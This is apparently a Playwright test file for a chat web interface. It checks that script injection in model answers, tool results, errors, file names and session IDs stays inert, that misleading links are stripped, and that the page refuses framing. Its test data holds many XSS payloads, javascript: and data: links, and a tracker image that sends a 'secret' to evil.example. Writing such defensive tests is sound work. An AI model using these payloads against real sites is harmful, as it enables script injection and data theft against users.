"""Attack 14: all content is shown as text. No script runs, nothing is fetched, no link misleads."""

import re
from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio
from playwright.async_api import Page, expect

from lango import Tool
from lango.messages import Attachment, ToolCall
from tests.browser.conftest import OpenPage
from tests.browser.page_actions import answer, ask, send, wait_until_finished
from tests.browser.page_monitor import PageMonitor
from tests.browser.site import Site, serving_script

EVIL = "<script>window.hacked = 1</script><img src=x onerror='window.hacked = 2'><svg onload='window.hacked = 3'>"
# tags to a browser, text to markdown, which takes text for markup after an open <code> or <kbd>
HALF_A_TAG = "<img/src=x/onerror=window.hacked=21><svg/onload=window.hacked=22>"
OPENED = f"Look: <code>{HALF_A_TAG} and <kbd>{HALF_A_TAG}"
RECORD_PARSED_HTML = """
    window.parsed = [];
    const parse = DOMParser.prototype.parseFromString;
    DOMParser.prototype.parseFromString = function (html, kind) {
        window.parsed.push(String(html));
        return parse.call(this, html, kind);
    };
"""
SCHEMA = {"type": "object", "properties": {"text": {"type": "string"}}}


async def echo(arguments: dict[str, Any]) -> dict[str, Any]:
    return {"echo": EVIL, "again": arguments["text"]}


async def repeat(arguments: dict[str, Any]) -> str:
    return arguments["text"]


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def site(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Site]:
    tools = [
        Tool("echo", "Echo.", SCHEMA, echo),
        Tool("repeat", "Repeat.", SCHEMA, repeat),
        Tool("wipe", "Wipe.", SCHEMA, echo, level="dangerous"),
    ]
    async with serving_script(tmp_path_factory.mktemp("site"), tools=tools) as site:
        yield site


async def assert_inert(page: Page) -> None:
    """Check that no injected script ran or left a trace in the page."""
    await page.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
    assert await page.evaluate("window.hacked") is None
    for region in ("#log", "#list", "#panel", "#title", "#announcements", "#alerts"):
        assert (
            await page.locator(
                f"{region} script, {region} iframe, {region} style, {region} form:not(.editing, .wait-form form)"
            ).count()
            == 0
        )
    assert await page.locator("#log img:not([src^='blob:']):not([src='/page/icon.svg'])").count() == 0
    attributes = await page.evaluate(
        "[...document.querySelectorAll('*')].flatMap((element) => element.getAttributeNames())"
    )
    assert not [name for name in attributes if name.startswith("on")]
    links = await page.evaluate("[...document.querySelectorAll('#log a')].map((link) => link.href)")
    assert all(link.startswith(("http://", "https://", "mailto:")) for link in links), links


async def test_script_in_messages_is_shown_as_text(page: Page, site: Site) -> None:
    site.script.add(f"Look: {EVIL}\n\n{EVIL}\n\n<details open ontoggle=window.hacked=4>x</details>")
    await page.goto(site.url)
    await ask(page, EVIL, "onerror='window.hacked = 2'")
    await expect(page.get_by_role("article", name="You")).to_contain_text(EVIL)
    await assert_inert(page)
    await page.reload()
    await expect(answer(page)).to_contain_text("window.hacked = 3")
    await assert_inert(page)


async def parsed_html(page: Page) -> list[str]:
    """Return all strings that the page parsed as HTML since it was loaded."""
    return await page.evaluate("window.parsed")


async def test_no_tag_of_an_answer_reaches_the_html_parser(open_page: OpenPage, site: Site) -> None:
    page = await open_page()
    await page.add_init_script(RECORD_PARSED_HTML)
    pieces = [
        OPENED,
        f"- <pre>{HALF_A_TAG}",
        f"| a |\n| --- |\n| <script>{HALF_A_TAG} |",
        f"[<code>{HALF_A_TAG}](https://a.b)",
    ]
    site.script.add("\n\n".join([*pieces, "The end."]))
    await page.goto(site.url)
    await ask(page, "hello", "The end.")
    for _ in ("as it streams", "as it is stored"):
        assert await parsed_html(page), "the recorder works"
        assert not [html for html in await parsed_html(page) if re.search("<(img|svg|script|kbd)", html)]
        await expect(answer(page)).to_contain_text(OPENED)
        await assert_inert(page)
        await page.reload()
        await expect(answer(page)).to_contain_text("The end.")


async def test_calls_results_errors_titles_and_files_never_reach_the_html_parser(
    open_page: OpenPage, site: Site
) -> None:
    page = await open_page()
    site.script.add(ToolCall("r1", "repeat", {"text": OPENED}), ToolCall("e1", "echo", {"text": OPENED}), "Fine.")
    files = [Attachment(f"{HALF_A_TAG.replace('/', ' ')}.txt", "text/plain", b"x")]
    await site.runtime.run("parsed", OPENED, attachments=files)
    await site.runtime.sessions.rename("parsed", OPENED)
    await page.add_init_script(RECORD_PARSED_HTML)
    await page.goto(f"{site.url}/#/s/parsed")
    await expect(answer(page)).to_contain_text("Fine.")
    for card in await answer(page).locator("summary").all():
        await card.click()
    results = answer(page).get_by_label("Result")
    await expect(results.first).to_have_text(OPENED)
    await expect(results.last).to_contain_text("window.hacked = 2")
    await expect(page.get_by_role("heading", level=1)).to_contain_text(OPENED)
    site.script.add(RuntimeError(OPENED))
    await send(page, OPENED)
    await expect(answer(page)).to_contain_text(f"RuntimeError: {OPENED}")
    assert not [html for html in await parsed_html(page) if "hacked" in html]
    await assert_inert(page)


MISLEADING_LINKS = """\
[a](javascript:window.hacked=5) [b](JaVaScRiPt:window.hacked=5) [c](data:text/html,<script>window.hacked=5</script>)
[d](vbscript:x) <javascript:window.hacked=5> [e]( javascript:window.hacked=5) [f](java&#10;script:window.hacked=5)
[g](//evil.example/x) [h](/v1/sessions) [good](https://example.org/?q="onmouseover="window.hacked=6)
<a href="javascript:window.hacked=5">raw</a> [ref]

[ref]: javascript:window.hacked=5

![tracker](https://evil.example/pixel.png?what=secret) ![inline](data:image/svg+xml,<svg/onload=window.hacked=7>)
"""


async def test_links_are_limited_to_web_and_mail_and_images_are_not_fetched(page: Page, site: Site) -> None:
    site.script.add(MISLEADING_LINKS)
    await page.goto(site.url)
    await ask(page, "links", "tracker")
    await assert_inert(page)
    names = await page.evaluate("[...document.querySelectorAll('#log a')].map((link) => link.textContent)")
    assert names == ["good", "tracker (https://evil.example/pixel.png?what=secret)"]
    for rel in await page.evaluate("[...document.querySelectorAll('#log a')].map((link) => link.rel)"):
        assert "noopener" in rel
        assert "noreferrer" in rel


async def test_ids_and_classes_of_a_model_do_not_reach_the_page(page: Page, site: Site) -> None:
    site.script.add(
        '<input name="session" id="text"><button data-copy="code" class="primary" id="send">Send your key</button>\n\n'
        '```"><img src=x onerror=window.hacked=8>\ncode\n```\n\n```language-x onclick\ncode\n```\n\ndone'
    )
    await page.goto(site.url)
    await ask(page, "names", "done")
    await assert_inert(page)
    assert await page.locator("#text").count() == 1
    assert await page.locator("#log button", has_text="Send your key").count() == 0


async def test_script_in_calls_results_and_approval_requests_is_shown_as_text(page: Page, site: Site) -> None:
    site.script.add(ToolCall("c1", "echo", {"text": EVIL}), ToolCall("c2", "wipe", {"text": EVIL}), "Fine.")
    await page.goto(site.url)
    await send(page, "tools")
    await expect(page.get_by_role("group", name="May wipe run?").get_by_label("Argument text")).to_contain_text(
        "<script>"
    )
    await wait_until_finished(page)
    await page.get_by_role("button", name="Details of this conversation").click()
    await answer(page).locator("summary").first.click()
    await expect(answer(page).get_by_label("Result")).to_contain_text("<script>")
    await assert_inert(page)
    await page.get_by_role("button", name="Approve").click()
    await expect(answer(page)).to_contain_text("Fine.")
    await wait_until_finished(page)
    await page.reload()
    await expect(answer(page)).to_contain_text("Fine.")
    await assert_inert(page)


async def test_script_in_an_error_is_shown_as_text(page: Page, site: Site) -> None:
    site.script.add(RuntimeError(EVIL))
    await page.goto(site.url)
    await send(page, "fail")
    await expect(answer(page)).to_contain_text("window.hacked = 2")
    await assert_inert(page)


async def test_script_in_a_session_id_is_shown_as_text(page: Page, site: Site, monitor: PageMonitor) -> None:
    monitor.expect("404")
    await page.goto(f"{site.url}/#/s/%3Cimg%20src%3Dx%20onerror%3Dwindow.hacked%3D9%3E")
    await expect(page.get_by_text("There is no session")).to_be_visible()
    await assert_inert(page)


async def test_injected_script_does_not_run(page: Page, site: Site, monitor: PageMonitor) -> None:
    monitor.expect("Content Security|Trusted")
    await page.goto(site.url)
    succeeded = await page.evaluate(
        """() => {
            const succeeded = [];
            const attempt = (name, action) => { try { action(); succeeded.push(name); } catch { /* expected */ } };
            attempt("innerHTML", () => { document.body.innerHTML += "<b>x</b>"; });
            attempt("write", () => { document.write("<b>x</b>"); });
            attempt("policy", () => trustedTypes.createPolicy("mine", { createHTML: (text) => text }));
            const script = document.createElement("script");
            script.append("window.hacked = 11");
            document.body.append(script);
            return succeeded;
        }"""
    )
    assert succeeded == []
    assert await page.evaluate("window.hacked") is None


async def test_the_page_refuses_to_be_framed(page: Page, site: Site, monitor: PageMonitor) -> None:
    monitor.expect("frame-ancestors|X-Frame-Options|chrome-error")
    await page.goto("about:blank")
    await page.evaluate(
        "(url) => { const f = document.createElement('iframe'); f.src = url; document.body.append(f); }", site.url
    )
    await page.frame_locator("iframe").locator("body").wait_for(state="attached")
    assert await page.frame_locator("iframe").get_by_role("textbox", name="Message").count() == 0
